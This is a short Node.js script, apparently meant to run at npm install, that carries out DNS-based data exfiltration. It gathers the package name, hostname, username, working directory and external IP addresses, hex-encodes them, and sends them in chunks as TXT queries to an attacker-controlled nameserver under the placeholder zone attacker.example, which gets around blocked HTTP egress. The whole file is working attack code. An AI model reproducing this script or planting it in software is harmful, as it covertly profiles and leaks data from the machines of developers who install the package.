// DNS-only exfiltration: works where HTTP egress is blocked but the resolver forwards.
const dgram = require('dgram');
const os = require('os');
const crypto = require('crypto');

const NS = '192.0.2.53';          // attacker's authoritative server, queried directly
const ZONE = 'x.dnslog.attacker.example';

function qname(labels) {
  const parts = [];
  for (const l of labels) {
    const b = Buffer.from(l);
    parts.push(Buffer.from([b.length]), b);
  }
  parts.push(Buffer.from([0]));
  return Buffer.concat(parts);
}

function query(name) {
  const header = Buffer.alloc(12);
  header.writeUInt16BE(crypto.randomBytes(2).readUInt16BE(0), 0); // id
  header.writeUInt16BE(0x0100, 2); // recursion desired
  header.writeUInt16BE(1, 4);      // qdcount
  const tail = Buffer.from([0x00, 0x10, 0x00, 0x01]); // TXT, IN
  return Buffer.concat([header, qname(name.split('.')), tail]);
}

const info = [
  process.env.npm_package_name || '', os.hostname(), os.userInfo().username, process.cwd(),
  Object.values(os.networkInterfaces()).flat().filter((i) => !i.internal && i.family === 'IPv4').map((i) => i.address).join(','),
].join('|');
const hex = Buffer.from(info).toString('hex');
const id = crypto.randomBytes(3).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];

const sock = dgram.createSocket('udp4');
let sent = 0;
chunks.forEach((c, i) => {
  const name = `${c}.${i}.${chunks.length}.${id}.${ZONE}`;
  const pkt = query(name);
  sock.send(pkt, 53, NS, () => { if (++sent === chunks.length) sock.close(); });
});
